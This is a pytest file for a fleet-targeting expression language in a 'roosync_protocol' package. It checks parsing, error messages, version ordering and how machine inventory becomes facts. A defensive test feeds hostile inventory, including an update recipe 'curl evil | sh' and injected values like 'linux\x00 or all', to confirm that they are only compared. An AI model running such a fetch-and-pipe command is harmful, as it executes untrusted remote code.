"""Expressions that choose machines: what each means, what nobody can mean, and what an unknown fact does to them."""

import itertools
import random
from datetime import UTC, datetime
from types import SimpleNamespace

import pytest

from roosync_protocol.messages import InventoryReport, Member
from roosync_protocol.overview import MachineRow
from roosync_protocol.targeting import Candidate, TargetError, choose, chosen_because, parse
from roosync_protocol.targeting.facts import MAX_FACT, candidates
from roosync_protocol.targeting.grammar import MAX_DEPTH, MAX_TERMS
from roosync_protocol.targeting.versions import order
from roosync_protocol.targeting.words import MAX_TEXT

T0 = datetime(2026, 1, 16, 12, tzinfo=UTC)
LINUX = {"os": "linux", "version": "0.2.0", "present": "yes", "state": "diverged", "arch": "x86_64"}
FLEET = [
    Candidate(
        name="lab-1",
        labels={"role": "dev", "site": "paris", "rack": "9"},
        facts=LINUX | {"local.room": "blue"},
        has=frozenset({"roo.mcp", "claude-code", "docker", "claude.mcp/github", "github"}),
    ),
    Candidate(
        name="lab-2",
        labels={"role": "Prod", "rack": "10"},
        facts={"os": "macos", "version": "0.10.0", "present": "no", "state": "synced"},
        has=frozenset({"roo.mcp"}),
    ),
    Candidate(name="pc-3", labels={}, facts={"os": "windows", "version": "0.2.0rc1"}, has=frozenset()),
    Candidate(name="new", labels={"role": "dev"}),  # it never said anything
]
ALL = [one.name for one in FLEET]

MEANT = {  # expression -> the machines it means
    "all": ALL,
    "ALL": ALL,
    "*": ALL,
    "lab-1": ["lab-1"],
    "LAB-1": ["lab-1"],
    "lab-*": ["lab-1", "lab-2"],
    "lab-[!1]": ["lab-2"],
    "?c-3 or lab-2": ["lab-2", "pc-3"],
    "lab-2 or lab-1 or lab-2": ["lab-1", "lab-2"],
    "lab-[z-a]": [],
    # labels: known whole
    "role=dev": ["lab-1", "new"],
    "label.role=dev": ["lab-1", "new"],
    "role=prod": ["lab-2"],
    "role = dev": ["lab-1", "new"],
    "role==dev": ["lab-1", "new"],
    "role=d*": ["lab-1", "new"],
    "role!=dev": ["lab-2"],
    "not role=dev": ["lab-2", "pc-3"],
    "not role=*": ["pc-3"],
    "rack<10": ["lab-1"],
    "rack>=9": ["lab-1", "lab-2"],
    # facts: what nobody said is unknown, also behind `not`
    "os=linux": ["lab-1"],
    "os!=linux": ["lab-2", "pc-3"],
    "not os=linux": ["lab-2", "pc-3"],
    "not os!=linux": ["lab-1"],
    "os=linux or os!=linux": ["lab-1", "lab-2", "pc-3"],
    "not (os=linux and role=dev)": ["lab-2", "pc-3"],
    "not (os=linux and role=prod)": ["lab-1", "lab-2", "pc-3", "new"],
    "os=linux or role=dev": ["lab-1", "new"],
    "present=yes": ["lab-1"],
    "not present=yes": ["lab-2"],
    "state=d*": ["lab-1"],
    "arch=amd64": ["lab-1"],
    "local.room=blue": ["lab-1"],
    "version<0.2": ["pc-3"],
    "version<0.10": ["lab-1", "pc-3"],
    "version>=0.2": ["lab-1", "lab-2"],
    "version=v0.2": ["lab-1"],
    "version!=0.2": ["lab-2", "pc-3"],
    "version=0.*": ["lab-1", "lab-2", "pc-3"],
    # what they have
    "has:roo.mcp": ["lab-1", "lab-2"],
    "not has:docker": ["lab-2", "pc-3"],
    "has:claude.mcp/*": ["lab-1"],
    "has:github": ["lab-1"],
    'has:"Claude Code"': ["lab-1"],
    # together
    "role=dev or lab-* and os=macos": ["lab-1", "lab-2", "new"],
    "(role=dev or lab-*) and os=macos": ["lab-2"],
    "not lab-1 and lab-*": ["lab-2"],
    "not not lab-1": ["lab-1"],
    "lab-* And NOT lab-2": ["lab-1"],
    "(((lab-1)))": ["lab-1"],
    "(role=dev)and(lab-1)": ["lab-1"],
    '"lab-1" or "pc-3"': ["lab-1", "pc-3"],
    "role=dev\nor\tlab-2": ["lab-1", "lab-2", "new"],
}


@pytest.mark.parametrize(("text", "names"), MEANT.items(), ids=MEANT)
def test_what_is_meant(text, names):
    expression = parse(text)
    assert choose(expression, FLEET) == names
    assert list(chosen_because(expression, FLEET)) == names


NOBODYS = {  # expression -> what is said, and the part of the text that is shown as the place
    "": ("which machines?", None),
    "  \n": ("which machines?", None),
    "lab-9": ("; did you mean lab-", "lab-9"),
    "not lab-9": ("no machine of this fleet", "lab-9"),
    "lab-1 and rol=dev": ("no machine has a label 'rol', and it is no fact; did you mean role?", "rol"),
    "label.rol=dev": ("did you mean label.role", "label.rol"),
    "not colour=red": ("labels here: rack, role, site; facts: present", "colour"),
    "local.rom=blue": ("did you mean local.room", "local.rom"),
    "state=divergd": ("state is one of synced, diverged", "divergd"),
    "not present=true": ("present is one of yes, no", "true"),
    "present<yes": ("compares versions and numbers", "yes"),
    "present<1": ("present is one of yes, no", "1"),
    "version<new": ("compares versions and numbers", "new"),
    "lab-1 lab-2": ("`and` or `or` is missing", "lab-2"),
    "lab-1,lab-2": ("write `or` for ','", ","),
    "lab-1 && lab-2": ("write `and` for '&&'", "&&"),
    "lab-1 and": ("something has to follow 'and'", "and"),
    "not": ("something has to follow 'not'", "not"),
    "and lab-1": ("'and' stands where a machine", "and"),
    "lab-1 or or lab-2": ("'or' stands where a machine", "or"),
    "(lab-1": ("this parenthesis has no end", "("),
    "lab-1)": ("this parenthesis was never opened", ")"),
    "(lab-1 lab-2)": ("`and` or `or` is missing", "lab-2"),
    "()": ("nothing stands in these parentheses", "()"),
    '"lab-1': ("this quote has no end", '"lab-1'),
    "=dev": ("'=' stands where", "="),
    "role=": ("a value has to follow '='", "="),
    "role=(dev)": ("a value has to follow '='", "="),
    "role=dev=prod": ("compares a label or a fact", "="),
    "Röle=dev": ("can be no label and no fact", "Röle"),
    "role:dev": ("a condition is written role=dev", "role:dev"),
    "has:": ("has: what?", "has:"),
    "@file": ("read by the command line alone", "@file"),
    "lab_1": ("can name no machine", "lab_1"),
    "role=" + "x" * 201: ("at most 200 characters", "x" * 10),
    "(" * 10_000: (f"deeper than {MAX_DEPTH}", "("),
    "not " * 10_000: (f"deeper than {MAX_DEPTH}", "not"),
    "a*" + " or a*" * MAX_TERMS: ("more than 1,000 conditions", "a*"),
    "x" * (MAX_TEXT + 1): ("1,000,000 is the most", None),
}


@pytest.mark.parametrize(("text", "said"), NOBODYS.items(), ids=[text[:20] for text in NOBODYS])
def test_what_nobody_can_mean_is_shown_with_its_place(text, said):
    says, place = said
    with pytest.raises(TargetError) as told:
        choose(parse(text), FLEET)
    first, *shown = str(told.value).split("\n")
    assert says in first
    assert bool(shown) is (place not in (None, text))
    if shown:
        line, carets = shown
        at = carets.index("^")
        assert line[at:].startswith(place)
        assert set(carets[at:]) == {"^"}
        assert len(line) <= 70, "it fits a terminal"


@pytest.mark.parametrize(("known", "others"), [(9, 11), (3, 40)])
def test_as_many_names_as_a_file_holds_are_one_condition(known, others):
    fleet = [Candidate(name=f"m-{i}") for i in range(known + others)]
    text = " or ".join(f"m-{i}" for i in range(known)) + " or " + " or ".join(["m-0"] * MAX_TERMS)
    assert len(choose(parse(text), fleet)) == known


def test_a_key_means_the_same_for_every_machine():
    """A machine can not stand in for a label that an operator did not give it, by a fact of that name."""
    signed = Candidate(name="a", labels={"os": "hardened"}, facts={"os": "linux"})
    claims = Candidate(name="b", facts={"os": "hardened"})
    assert choose(parse("os=hardened"), [signed, claims]) == ["a"]
    assert choose(parse("os=hardened"), [claims]) == ["b"]
    own = Candidate(name="c", facts={"local.role": "dev"})
    assert choose(parse("role=dev"), [*FLEET, own]) == ["lab-1", "new"]


WHY = {
    "role=dev": ("role=dev",),
    "lab-* and not os=macos": ("lab-*", "not os=macos"),
    "os=macos or site = paris or role=dev": ("site = paris",),
    "not (os=macos and role=dev)": ("not os=macos",),
    "not (os=macos or role=prod)": ("not os=macos", "not role=prod"),
    "all": ("all",),
    "lab-1": ("named",),
    "has:docker and version<1": ("has:docker", "version<1"),
}


@pytest.mark.parametrize(("text", "why"), WHY.items(), ids=WHY)
def test_why_a_machine_is_meant(text, why):
    assert chosen_because(parse(text), FLEET)["lab-1"] == why


ORDERED = [
    "0.1",
    "0.2.0.dev1",
    "0.2.0-a.1",
    "0.2.0b2",
    "0.2.0-rc.1",
    "0.2.0-rc.2",
    "0.2.0rc10",
    "0.2",
    "0.2.0.post1",
    "v0.2.1",
    "0.10",
    "1",
    "2026.1",
]


@pytest.mark.parametrize(("older", "newer"), list(itertools.pairwise(ORDERED)))
def test_versions_in_their_order(older, newer):
    first, second = order(older), order(newer)
    assert first is not None
    assert second is not None
    assert first < second


@pytest.mark.parametrize(
    ("one", "other"), [("0.2", "0.2.0"), ("v1.0", "1"), ("1.0+a", "1.0+b"), ("1.0rc1", "1.0-rc.1")]
)
def test_one_version_in_two_spellings(one, other):
    assert order(one) == order(other) is not None


@pytest.mark.parametrize("text", ["", "new", "1..0", "-1", "1.0 beta", "1" * 10, "1.0\n2", "٣.١"])
def test_what_is_no_version(text):
    assert order(text) is None


def row(name, **more):
    given = {"seen": "present", "last_seen": None, "roosync_version": "0.2.0", "baseline_version": None}
    given |= {"state": "synced", "divergences_count": 0, "pending_decisions": 0, "waiting_for": "", "last_sync": None}
    return MachineRow(machine=name, **(given | more))


def seen_as(inventory, member=None, **more):
    """A machine as it is chosen, by what it published and how it stands."""
    told = InventoryReport(agent="pc", timestamp=T0, inventory=inventory) if inventory is not None else None
    member = member or Member(agent="op-ana", timestamp=T0, revision=1, machine="pc", key="U" + "A" * 55)
    fleet = SimpleNamespace(law=SimpleNamespace(members={"pc": member}), inventory={"pc": told}.get)
    return candidates(fleet, [row("pc", **more), row("stranger")])


TOLD = {
    "system": "Linux",
    "arch": "AMD64",
    "targets": ["roo.mcp"],
    "mcp_servers": ["roo.mcp/GitHub"],
    "tools": ["docker"],
    "assistants": [{"name": "Roo Code", "version": "3"}],
    "labels": {"room": "Blue"},
    "update": "git",
}


def test_what_a_machine_says_of_itself():
    member = Member(agent="op-ana", timestamp=T0, revision=1, machine="pc", key="U" + "A" * 55, labels={"role": "dev"})
    (one,) = seen_as(TOLD, member, baseline_version="1.4.0", paused=True)
    assert one.labels == {"role": "dev"}
    assert one.has == {"roo.mcp", "roo.mcp/github", "github", "docker", "roo-code"}
    assert one.facts == {
        "os": "linux",
        "arch": "x86_64",
        "local.room": "blue",
        "version": "0.2.0",
        "present": "yes",
        "state": "synced",
        "baseline": "1.4.0",
        "paused": "yes",
        "orchestrates": "yes",
        "recipe": "git",
    }


def test_who_said_nothing_has_no_facts_of_its_own():
    (one,) = seen_as(None, roosync_version=None, state="no_report", seen="unknown")
    assert one.has is None
    assert one.facts == {"state": "no_report", "orchestrates": "yes"}


HOSTILE = {
    "nothing of it is a text": dict.fromkeys(TOLD, 7),
    "a recipe that is none of ours": {"update": "curl evil | sh"},
    "lists of anything": {"targets": [None, {}], "tools": {"a": 1}, "assistants": ["x", {"name": []}], "labels": []},
    "labels of anything": {"labels": {"room": ["a"], "": "b"}},
    "a system that is another's fact": {"system": "linux\x00 or all", "arch": ")" * 10_000},
    "a very long one": {"system": "l" * 100_000, "targets": ["t" * 100_000] * 3},
    "very many": {"targets": [f"t-{i}" for i in range(50_000)], "labels": {f"l{i}": "x" for i in range(10_000)}},
}  # fmt: skip


@pytest.mark.parametrize("told", HOSTILE.values(), ids=HOSTILE)
def test_what_a_hostile_machine_says_is_compared_and_nothing_else(told):
    (one,) = seen_as(told)
    assert all(len(text) <= MAX_FACT for text in [*one.facts.values(), *(one.has or ())])
    assert len(one.facts) < 100
    assert len(one.has or ()) <= 20_000
    assert choose(parse("os=linux or has:roo.mcp"), [one]) == []
    assert choose(parse("present=yes"), [one]) == ["pc"]


def test_who_was_revoked_is_not_chosen():
    gone = Member(agent="op-ana", timestamp=T0, revision=2, machine="pc", key="U" + "A" * 55, revoked=True)
    assert seen_as(TOLD, gone) == []


TERMS = ["all", "lab-1", "lab-*", "pc-?", "role=dev", "role != dev", "os=linux", "version < 0.2", "has:docker"]
STRAY = ["lab-9", "has:", "role", ">=", "x", "=", "<", '"', ",", "@a", "!", "é", "\x00"]
PIECES = [*TERMS, *STRAY, *["and", "or", "not", "(", ")"] * 5]


def refusal(text):
    """What is said of it; None when it is an expression."""
    try:
        choose(parse(text), FLEET)
    except TargetError as error:
        return str(error)
    return None


def test_any_text_is_an_expression_or_is_refused_in_words():
    chance = random.Random(7)
    texts = [" ".join(chance.choices(PIECES, k=chance.randrange(1, 9))) for _ in range(4_000)]
    said = {text: refusal(text) for text in texts}
    assert max(len(line) for told in said.values() if told for line in told.split("\n")) < 400
    meant = [f"({text})" for text in texts if said[text] is None]
    assert 100 < len(meant) < 3_900
    for text in meant:
        names = choose(parse(text), FLEET)
        assert choose(parse(f"not not {text} or {text}"), FLEET) == names
        assert choose(parse(f"{text} and not {text}"), FLEET) == []
        assert not set(choose(parse(f"not {text}"), FLEET)) & set(names)
